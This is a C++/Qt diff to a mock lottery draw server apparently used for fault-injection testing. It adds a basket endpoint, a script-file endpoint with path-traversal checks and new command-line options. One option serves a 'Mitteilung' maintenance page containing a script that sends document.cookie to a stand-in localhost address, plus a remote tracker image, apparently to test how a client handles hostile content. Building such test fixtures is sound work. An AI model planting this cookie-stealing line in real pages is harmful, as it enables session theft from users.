@@ -5,6 +5,11 @@
 #include "i18n/TextFile.h"
 
 #include <QCommandLineParser>
+#include <QDir>
+#include <QFile>
+#include <QFileInfo>
+#include <QLocale>
+#include <QTimeZone>
 #include <algorithm>
 
 namespace kugelo::drawservice {
@@ -277,6 +282,53 @@ Reply replyForQuery(const QUrlQuery& query, const DrawHistory& history, const Fa
     return replyForDay(day, history, faults);
 }
 
+QByteArray defaultBasketTemplate(const QString& baseUrl) {
+    QByteArray t = baseUrl.toLatin1() + "/lotto/warenkorb2.asp?Tipps=[Anzahl]";
+    for (int n = 1; n <= 12; ++n)
+        t += "&kasten" + QByteArray::number(n) + "=[KASTEN" + QByteArray::number(n) + ']';
+    return t;
+}
+
+QByteArray basketNoticePage() {
+    return "<html><head><title>Mitteilung</title></head><body>\r\n"
+           "<h2>Mitteilung</h2>\r\n"
+           "<p>Der Warenkorb ist wegen Wartungsarbeiten bis 18 Uhr nicht erreichbar.</p>\r\n"
+           "<script>document.location='http://127.0.0.1:9/stolen?'+document.cookie</script>\r\n"
+           "<img src=\"http://127.0.0.1:9/tracker.gif\">\r\n"
+           "</body></html>\r\n";
+}
+
+Reply replyForBasket(const QUrlQuery& query, const BasketOptions& options, const QString& baseUrl) {
+    if (query.queryItemValue(QStringLiteral("Spiel")) != QLatin1String("Kugelo") ||
+        query.queryItemValue(QStringLiteral("Wo")) != QLatin1String("Lottoland"))
+        return errorReply(400, "Spiel=Kugelo&Wo=Lottoland expected");
+    bool ok = false;
+    const int tips = query.queryItemValue(QStringLiteral("Tipps")).toInt(&ok);
+    if (!ok || tips < 1 || tips > 12) return errorReply(400, "Tipps=1..12 expected");
+    if (options.notice) return Reply{503, basketNoticePage(), Reply::Ending::Complete, {}, {}};
+    if (options.errorStatus != 0)
+        return errorReply(options.errorStatus, "Der Warenkorb ist nicht erreichbar");
+    return Reply{200,
+                 options.linkTemplate.isEmpty() ? defaultBasketTemplate(baseUrl) : options.linkTemplate,
+                 Reply::Ending::Complete,
+                 {},
+                 {}};
+}
+
+Reply replyForScript(const QString& name, const QString& folder) {
+    const bool plainName = !name.isEmpty() && !name.contains(QLatin1Char('/')) &&
+                           !name.contains(QLatin1Char('\\')) && name != QLatin1String("..") &&
+                           name != QLatin1String(".");
+    if (folder.isEmpty() || !plainName) return errorReply(404, "Not found");
+    const QString path = QDir(folder).filePath(name);
+    QFile file(path);
+    if (!QFileInfo(path).isFile() || !file.open(QIODevice::ReadOnly)) return errorReply(404, "Not found");
+    const QDateTime modified = QFileInfo(path).lastModified().toTimeZone(QTimeZone::utc());
+    const QByteArray date =
+        QLocale::c().toString(modified, QStringLiteral("ddd, dd MMM yyyy HH:mm:ss 'GMT'")).toLatin1();
+    return Reply{200, file.readAll(), Reply::Ending::Complete, "Last-Modified: " + date + "\r\n", {}};
+}
+
 Reply errorReply(int status, const QByteArray& text) {
     return Reply{status, text + "\r\n", Reply::Ending::Complete, {}, {}};
 }
@@ -310,10 +362,14 @@ std::optional<Options> parseOptions(const QStringList& arguments, QString* error
                              stall = valued("stall"), endlessBody = valued("endless-body"),
                              endlessHeaders = valued("endless-headers"), badGzip = valued("bad-gzip"),
                              control = valued("control"), impossible = valued("impossible"),
-                             randomFaults = valued("random-faults");
+                             randomFaults = valued("random-faults"),
+                             basketTemplate = valued("basket-template"), basketError = valued("basket-error"),
+                             scripts = valued("scripts");
+    const QCommandLineOption basketNotice(QStringLiteral("basket-notice"));
     parser.addOptions({help,    version, port,       csv,         seed,    delay, errorOpt,    notice,
                        cut,     drop,    huge,       twice,       trickle, stall, endlessBody, endlessHeaders,
                        badGzip, control, impossible, randomFaults});
+    parser.addOptions({basketTemplate, basketError, basketNotice, scripts});
 
     const auto fail = [error](const QString& text) -> std::optional<Options> {
         if (error) *error = text;
@@ -327,7 +383,8 @@ std::optional<Options> parseOptions(const QStringList& arguments, QString* error
     Options o;
     o.help = parser.isSet(help);
     o.version = parser.isSet(version);
-    for (const QCommandLineOption* single : {&port, &csv, &seed, &delay, &randomFaults})
+    for (const QCommandLineOption* single :
+         {&port, &csv, &seed, &delay, &randomFaults, &basketTemplate, &basketError, &scripts})
         if (parser.values(*single).size() > 1)
             return fail(QStringLiteral("--%1 given more than once").arg(single->names().first()));
 
@@ -348,6 +405,26 @@ std::optional<Options> parseOptions(const QStringList& arguments, QString* error
         if (!ok || o.faults.delayMs < 0 || o.faults.delayMs > 600000)
             return fail(QStringLiteral("--delay-ms needs 0..600000"));
     }
+
+    if (parser.isSet(basketTemplate)) {
+        QFile file(parser.value(basketTemplate));
+        if (!file.open(QIODevice::ReadOnly))
+            return fail(QStringLiteral("--basket-template: cannot read %1").arg(file.fileName()));
+        o.basket.linkTemplate = file.readAll();
+        if (o.basket.linkTemplate.isEmpty())
+            return fail(QStringLiteral("--basket-template: %1 is empty").arg(file.fileName()));
+    }
+    if (parser.isSet(basketError)) {
+        o.basket.errorStatus = parser.value(basketError).toInt(&ok);
+        if (!ok || o.basket.errorStatus < 400 || o.basket.errorStatus > 599)
+            return fail(QStringLiteral("--basket-error needs a status 400..599"));
+    }
+    o.basket.notice = parser.isSet(basketNotice);
+    if (o.basket.notice && o.basket.errorStatus != 0)
+        return fail(QStringLiteral("--basket-notice and --basket-error exclude each other"));
+    o.scriptFolder = parser.value(scripts);
+    if (parser.isSet(scripts) && !QFileInfo(o.scriptFolder).isDir())
+        return fail(QStringLiteral("--scripts needs a folder: %1").arg(o.scriptFolder));
 
     if (parser.isSet(randomFaults)) {
         o.faults.randomRate = parser.value(randomFaults).toDouble(&ok);
@@ -455,7 +532,19 @@ QString helpText() {
         "  --random-faults P       every request plays, with the chance P (0..1), one of: trickle,\n"
         "                          stall, endless-body, endless-headers, bad-gzip, control, impossible,\n"
         "                          cut, drop, huge, error (503); the choices follow from --seed.\n"
-        "                          Each fault played is logged on stdout: \"fault DATE NAME\".\n");
+        "                          Each fault played is logged on stdout: \"fault DATE NAME\".\n"
+        "\n"
+        "Basket service: GET /lotto/lotto.asp?Spiel=Kugelo&Wo=Lottoland&Tipps=N (N 1..12) answers with\n"
+        "status 200 and a link template to the service's own /lotto/warenkorb2.asp with [Anzahl] and\n"
+        "[KASTEN1] ... [KASTEN12]; other parameters give 400.\n"
+        "  --basket-template FILE  answer with the bytes of FILE as the template instead\n"
+        "  --basket-notice         answer with status 503 and a notice page (\"Mitteilung\") that holds a\n"
+        "                          script and a remote image\n"
+        "  --basket-error STATUS   answer with STATUS (400..599) and a page that is no notice\n"
+        "\n"
+        "Script directory: GET /scripts/NAME answers with the file NAME of the folder of\n"
+        "  --scripts DIR           and its modification time as Last-Modified; 404 without the option,\n"
+        "                          for a missing file or a name that is no plain file name.\n");
 }
 
 } // namespace kugelo::drawservice
